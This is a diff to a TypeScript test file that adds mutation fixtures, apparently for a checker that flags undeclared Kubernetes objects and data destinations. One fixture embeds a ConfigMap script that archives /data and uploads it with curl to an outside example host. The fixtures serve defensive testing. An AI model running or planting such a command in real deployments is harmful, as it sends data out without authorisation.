@@ -1,4 +1,4 @@
-import { siteContract } from "../../components/schema/contracts/site.ts";
+import { egressContract, siteContract } from "../../components/schema/contracts/site.ts";
 import type { Mutation } from "./mutation.ts";
 import { beside, container, pod, podTemplate } from "./objects.ts";
 
@@ -6,6 +6,31 @@ const abroad = "https://collector.us-east-1.example.com";
 
 /** Mutations that add Kubernetes objects beside the components, to bypass the declarations. */
 export const mutations: readonly Mutation[] = [
+  beside("kind-known", "an object of a kind that nobody has listed", "acme.io/v1:Shipper", { spec: { sink: "us.example.com" } }),
+  {
+    rule: "kind-known",
+    what: "a bucket of another provider",
+    type: siteContract.type,
+    adds: () => ({ type: "aws:s3/bucketV2:BucketV2", props: { bucket: "copy" } }),
+  },
+  {
+    rule: "kind-known",
+    what: "a fact stands beside its site",
+    type: egressContract.type,
+    adds: ({ props }) => ({ type: egressContract.type, props }),
+  },
+  beside("ingress-declared", "an Ingress answers to another name", "networking.k8s.io/v1:Ingress", {
+    spec: { rules: [{ host: "us.example.com" }] },
+  }),
+  beside(
+    "destination-declared",
+    "a job goes to a region of a cloud",
+    "batch/v1:Job",
+    podTemplate({ containers: [container({ args: ["--region", "us-east-1"] })] }),
+  ),
+  beside("destination-declared", "a file names a host without a scheme", "core/v1:ConfigMap", {
+    data: { "run.sh": "tar c /data | curl -T - files.us.example.com\n" },
+  }),
   pod("workload-region-affinity", "a pod may run anywhere", {}),
   beside(
     "workload-region-affinity",
